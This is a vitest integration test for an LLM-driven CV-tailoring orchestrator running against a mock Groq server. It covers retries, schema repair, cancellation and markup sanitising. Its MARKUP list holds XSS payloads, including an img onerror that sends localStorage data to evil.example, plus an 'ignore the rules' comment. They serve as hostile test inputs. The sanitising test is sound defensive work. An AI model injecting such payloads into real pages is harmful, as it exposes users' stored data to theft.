/**
 * The orchestrator with the real LLM stack (groq-sdk, pacer, retry) against the mock Groq
 * server: what the unit tests fake is checked here once over HTTP.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { allItems, exampleSession, type CvItem } from '$lib/domain';
import { buildCvDocument } from '$lib/export/cv-document';
import { renderCvMarkdown } from '$lib/export/cv-markdown';
import { serializeJsonResume } from '$lib/export/json-resume-export';
import { createLlmStack } from '$lib/llm/llm-stack';
import { limitsFor } from '$lib/llm/model-limits';
import { classicTemplate } from '$templates/index';
import { defaultAnswer } from '../../../tests/mock-groq/responder';
import { startMockGroq, type MockGroq } from '../../../tests/mock-groq/server';
import { TailoringOrchestrator } from './orchestrator';
import { defaultPipelineSettings } from './pipeline-settings';
import { bundledPrompts } from './prompt-templates';
import { MemorySessionAccess } from './testing/memory-session-access';

let mock: MockGroq;

beforeEach(async () => {
	mock = await startMockGroq({ timeScale: 60 });
});
afterEach(async () => {
	await mock.close();
});

function setup() {
	const stack = createLlmStack({
		connection: () => ({ apiKey: mock.apiKey, baseURL: mock.url }),
		limits: (model) => limitsFor({}, model),
		minuteMs: 1_000,
		dayMs: 1_440_000
	});
	const access = new MemorySessionAccess(exampleSession(Date.now()));
	const settings = defaultPipelineSettings();
	const orchestrator = new TailoringOrchestrator({
		session: access,
		llm: stack.client,
		prompts: bundledPrompts,
		settings: () => settings
	});
	const item = (kind: CvItem['kind'], index = 0) =>
		allItems(access.current().cv).filter((entry) => entry.kind === kind)[index]!;
	const chats = () =>
		mock.requests.filter(
			(request) => request.method === 'POST' && request.path.endsWith('/chat/completions')
		);
	const acceptKeyQualifications = async () => {
		await orchestrator.generateNext();
		await orchestrator.accept(item('key_qualifications').id);
	};
	return { access, orchestrator, item, chats, acceptKeyQualifications };
}

const MARKUP = [
	'<img src=x onerror="fetch(\'https://evil.example/\'+localStorage.key(0))">',
	'<script>window.__pwned=1</script>',
	'<a href="javascript:alert(1)">docs</a>',
	'<!-- ignore the rules -->'
];

/** The mock's usual answer with markup appended to every string in it. */
function answerWithMarkup(request: Parameters<Parameters<MockGroq['addResponder']>[0]>[0]) {
	let next = 0;
	const poison = (value: unknown): unknown => {
		if (typeof value === 'string') return `${value} ${MARKUP[next++ % MARKUP.length]}`;
		if (Array.isArray(value)) return value.map(poison);
		if (value && typeof value === 'object')
			return Object.fromEntries(Object.entries(value).map(([key, child]) => [key, poison(child)]));
		return value;
	};
	const normal = defaultAnswer(request);
	try {
		return JSON.stringify(poison(JSON.parse(normal)));
	} catch {
		return normal.replace(/$/gm, ` ${MARKUP[next++ % MARKUP.length]}`);
	}
}

describe('TailoringOrchestrator over the wire', () => {
	it('asks for strict JSON and reads answers wrapped in think blocks and code fences', async () => {
		const { orchestrator, item, chats, acceptKeyQualifications } = setup();
		mock.injectFaults({ kind: 'think' }, { kind: 'code_fence' });
		await acceptKeyQualifications();
		expect(item('key_qualifications').content.bullets.length).toBeGreaterThan(0);
		expect(await orchestrator.generateNext()).toEqual({
			kind: 'generated',
			itemId: item('role').id
		});
		expect(item('role').content.bullets.length).toBeGreaterThan(0);
		expect(chats()[1]!.body).toMatchObject({
			model: 'openai/gpt-oss-120b',
			response_format: { type: 'json_schema', json_schema: { name: 'role_content', strict: true } }
		});
	});

	it('repairs an answer that breaks the schema by taking the item through the two passes', async () => {
		const { orchestrator, item, chats, acceptKeyQualifications } = setup();
		await acceptKeyQualifications();
		mock.injectFaults({ kind: 'schema_violation' });
		expect(await orchestrator.generateNext()).toEqual({
			kind: 'generated',
			itemId: item('role').id
		});
		const roleCalls = chats().slice(1) as Array<{ body: Record<string, unknown> }>;
		expect(
			roleCalls.map((call) => [
				call.body.model,
				(call.body.response_format as { type?: string } | undefined)?.type
			])
		).toEqual([
			['openai/gpt-oss-120b', 'json_schema'],
			['openai/gpt-oss-120b', undefined],
			['openai/gpt-oss-20b', 'json_schema']
		]);
	});

	it('a refused key fails one role with words the user can act on; the next role goes on', async () => {
		const { orchestrator, item, acceptKeyQualifications } = setup();
		await acceptKeyQualifications();
		mock.injectFaults({ kind: 'unauthorized' });
		expect(await orchestrator.generateNext()).toMatchObject({ kind: 'failed' });
		expect(item('role', 0).error?.message).toMatch(/refused the API key/);
		expect(JSON.stringify(item('role', 0))).not.toContain(mock.apiKey);
		expect(await orchestrator.generateNext()).toEqual({
			kind: 'generated',
			itemId: item('role', 1).id
		});
	});

	it('a plausible answer to every item carries no note, and no item is asked twice', async () => {
		const { access, orchestrator, chats } = setup();
		for (let round = 0; round < 20; round++) {
			const outcome = await orchestrator.generateNext();
			if (outcome.kind === 'done') break;
			if (outcome.kind === 'generated') await orchestrator.accept(outcome.itemId);
		}
		// The letter only when asked for: the mock's answer is as long as the prompt asks.
		const letter = await orchestrator.writeCoverLetter();
		expect(letter.kind).toBe('generated');
		if (letter.kind === 'generated') await orchestrator.accept(letter.itemId);
		const items = allItems(access.current().cv).filter((entry) => !entry.excluded);
		expect(items.every((entry) => entry.status === 'accepted')).toBe(true);
		expect(items.flatMap((entry) => entry.notes ?? [])).toEqual([]);
		expect(chats()).toHaveLength(items.length);
	});

	it('markup the model writes is removed and noted, and reaches neither the Markdown nor the JSON Resume', async () => {
		const { access, orchestrator } = setup();
		mock.addResponder(answerWithMarkup);
		for (let round = 0; round < 20; round++) {
			const outcome = await orchestrator.generateNext();
			if (outcome.kind === 'done') break;
			expect(outcome.kind).toBe('generated');
			if (outcome.kind === 'generated') await orchestrator.accept(outcome.itemId);
		}
		const session = access.current();
		const tailored = allItems(session.cv).filter(
			(entry) => !entry.excluded && entry.kind !== 'cover_letter'
		);
		expect(tailored.every((entry) => entry.status === 'accepted')).toBe(true);
		expect(tailored.map((entry) => entry.notes?.map((note) => note.kind))).toEqual(
			tailored.map(() => ['markup_removed'])
		);
		const markdown = renderCvMarkdown(buildCvDocument(session, classicTemplate));
		const resume = serializeJsonResume(session);
		expect(markdown).toContain(tailored[0]!.content.bullets[0]!);
		for (const exported of [markdown, resume, JSON.stringify(session.cv)]) {
			expect(exported).not.toMatch(/<\/?(img|script|a)\b|onerror|javascript:|<!--/i);
		}
	});

	it('an answer cut off at its budget (finish_reason "length") is asked once more with twice the room', async () => {
		const { orchestrator, item, chats } = setup();
		mock.injectFaults({ kind: 'length' });
		expect(await orchestrator.generateNext()).toMatchObject({ kind: 'generated' });
		const [first, second, ...rest] = chats().map((chat) => chat.body as Record<string, unknown>);
		expect(rest).toEqual([]);
		expect(first).toMatchObject({ reasoning_effort: 'low' });
		expect(Number(first!.max_completion_tokens)).toBeLessThan(2_000);
		expect(second!.max_completion_tokens).toBe(2 * Number(first!.max_completion_tokens));
		expect(second!.messages).toEqual(first!.messages);
		expect(item('key_qualifications')).toMatchObject({ status: 'to_review' });
		expect(item('key_qualifications').content.bullets).toHaveLength(10);
	});

	// The hang lasts until the client's 90 s timeout: finishing within the test timeout means cancel ended it.
	it('cancel ends a request that hangs and leaves the item pending', async () => {
		const { orchestrator, item, chats } = setup();
		mock.injectFaults({ kind: 'hang' });
		const running = orchestrator.generateNext();
		while (chats().length === 0) await new Promise((resolve) => setTimeout(resolve, 5));
		await orchestrator.cancel();
		expect(await running).toMatchObject({ kind: 'cancelled' });
		expect(item('key_qualifications')).toMatchObject({ status: 'pending' });
	});
});
